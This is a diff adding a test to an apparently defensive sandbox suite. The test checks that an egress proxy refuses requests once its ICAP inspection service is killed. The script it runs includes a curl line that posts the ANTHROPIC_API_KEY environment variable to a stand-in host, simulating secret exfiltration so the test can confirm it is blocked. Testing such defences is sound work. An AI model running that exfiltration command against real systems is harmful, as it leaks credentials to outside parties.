@@ -191,3 +191,41 @@ def test_a_removed_key_protection_fails_its_check_and_the_agent_never_runs(engin
     assert check in failed, f"{check} passed although its protection was removed; failed: {failed}"
     assert not (workspace / "AGENT-RAN").exists()
     assert engine.list(f"dev.sandbox.workspace={workspace}") == []
+
+
+def test_with_the_key_icap_service_gone_requests_are_refused_not_sent_unchecked(engine, upstream, workspace, tmp_path,
+                                                                              certs):  # noqa: F811
+    """bypass=0: the ICAP service that reads every header and body is killed mid-run; the next
+    requests (with the placeholder in a body, and with none at all) are refused, never forwarded."""
+    from conftest import docker_sdk
+
+    network, upstream_log = upstream
+    (tmp_path / "good.pem").write_text(certs["good.pem"])
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(POLICY)
+    curl = "curl -s --max-time 20 -o /dev/null -w '%{http_code}'"
+    script = (f'echo "first=$({curl} https://wrong.test:8443/v1/icapfirst)"; '
+              'for i in $(seq 300); do [ -e /workspace/go ] && break; sleep 0.1; done; '
+              f'echo "second=$({curl} https://wrong.test:8443/v1/icapsecond)"; '
+              f'echo "third=$({curl} --data "k=$ANTHROPIC_API_KEY" https://wrong.test:8443/v1/icapthird)"')
+    proc = subprocess.Popen(SANDBOX + ["run", "-p", str(policy), "-w", str(workspace), "--egress-network", network,
+                                       "--", "bash", "-c", script], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                            text=True, env={**os.environ, "SANDBOX_TEST_BOUND_KEY": "real-bound-key-" + os.urandom(8).hex()})
+    try:
+        assert proc.stdout.readline().strip() == "first=200"
+        proxy = [c for c in engine.list(f"dev.sandbox.workspace={workspace}") if c.labels["dev.sandbox.kind"] == "proxy"][0]
+        api = docker_sdk().api
+        run = api.exec_create(proxy.id, ["sh", "-c", "kill $(cat /run/squid/icap.pid)"], user="13:13")
+        api.exec_start(run["Id"])
+        assert api.exec_inspect(run["Id"])["ExitCode"] == 0
+        (workspace / "go").write_text("")
+        out, err = proc.communicate(timeout=120)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+    assert proc.returncode == 0, err
+    second = out.split("second=")[1].split()[0]
+    third = out.split("third=")[1].split()[0]
+    assert second not in ("200", "000") and third not in ("200", "000"), out
+    log = upstream_log()
+    assert "icapfirst" in log and "icapsecond" not in log and "icapthird" not in log, log
